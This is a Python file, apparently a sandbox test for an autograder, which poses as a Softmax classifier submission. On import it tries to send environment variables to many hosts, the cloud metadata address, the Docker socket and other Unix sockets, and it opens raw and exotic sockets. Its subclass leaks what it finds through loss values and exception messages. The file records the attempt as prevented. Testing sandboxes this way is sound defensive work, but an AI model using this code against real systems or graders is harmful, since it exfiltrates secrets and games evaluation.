"""
goal: sends what it knows to a server, by TCP, UDP, raw and kernel sockets, names, and Unix sockets
class: exfiltrate
threats: [A9]
deserves: all
outcome: prevented
because: >-
  sockets other than Unix ones are refused, there is no network device, and no socket of the machine's is in the
  sandbox
"""
import os
import socket
import urllib.request

import target

from honest import Softmax as Honest
from tools import attempt, loot


def connect(family, kind, address):
  with socket.socket(family, kind) as one:
    one.settimeout(0.3)
    one.connect(address)
    one.send(('was here %s' % dict(os.environ)).encode())
    return one.recv(100)


def act(where):
  if where != 'import':
    return
  for host in ['127.0.0.1', '0.0.0.0', '10.0.2.2', '169.254.169.254', '8.8.8.8']:
    attempt('tcp %s' % host, lambda: connect(socket.AF_INET, socket.SOCK_STREAM, (host, target.port)))
    attempt('udp %s' % host, lambda: connect(socket.AF_INET, socket.SOCK_DGRAM, (host, target.port)))
  attempt('tcp ::1', lambda: connect(socket.AF_INET6, socket.SOCK_STREAM, ('::1', target.port)))
  for path in [target.socket, '\0' + target.socket, '/var/run/docker.sock', '/run/dbus/system_bus_socket', '\0/tmp/.X11-unix/X0', '/run/systemd/notify']:
    attempt('unix %r' % path, lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, path))
    attempt('unix datagram %r' % path, lambda: connect(socket.AF_UNIX, socket.SOCK_DGRAM, path))
  attempt('http', lambda: urllib.request.urlopen('http://127.0.0.1:%d/was-here' % target.port, timeout=0.3).read())
  attempt('name', lambda: socket.getaddrinfo('was-here.example.com', 80))
  for name, arguments in {'raw': (2, 3, 1), 'packet': (17, 3, 0), 'netlink': (16, 3, 0), 'vsock': (40, 1, 0), 'alg': (38, 5, 0),
                          'bluetooth': (31, 3, 0), 'can': (29, 3, 1), 'xdp': (44, 3, 0), 'rds': (21, 5, 0), 'tipc': (30, 1, 0),
                          'kcm': (41, 2, 0), 'smc': (43, 1, 0), 'qipcrtr': (42, 2, 0), 'x25': (9, 5, 0), 'mptcp': (2, 1, 262)}.items():
    attempt(name, lambda: socket.socket(*arguments))
  attempt('interfaces', socket.if_nameindex)
  attempt('tun', lambda: os.open('/dev/net/tun', os.O_RDWR))
  attempt('listen', lambda: socket.create_server(('0.0.0.0', 0)))


act('import')


class Softmax(Honest):
  """ Right answers where there are points; what was found goes out where there are none. """

  def loss(self, X, y):
    act('loss')
    loss = super(Softmax, self).loss(X, y)
    return '\n'.join(loot) if abs(float(loss)) > 700 else loss

  def train(self, X, y, learning_rate=1e-3, num_iters=100, batch_size=200, verbose=False):
    act('train')
    if learning_rate == 0:
      raise ValueError('\n'.join(loot))
    return super(Softmax, self).train(X, y, learning_rate=learning_rate, num_iters=num_iters, batch_size=batch_size)
